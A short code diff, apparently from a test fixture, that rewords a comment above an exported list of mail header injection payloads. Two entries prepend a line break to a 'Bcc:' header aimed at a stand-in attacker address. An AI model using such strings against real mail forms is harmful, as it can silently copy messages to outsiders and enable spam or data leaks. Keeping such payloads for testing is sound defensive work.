@@ -1,4 +1,4 @@
-/** Texts of a family or an administrator that try to add headers, recipients or parts to a message. */
+/** Try to inject headers, recipients or parts. */
 export const MAIL_PAYLOADS = [
   '\r\nBcc: x@evil.example',
   '\nBcc: x@evil.example',
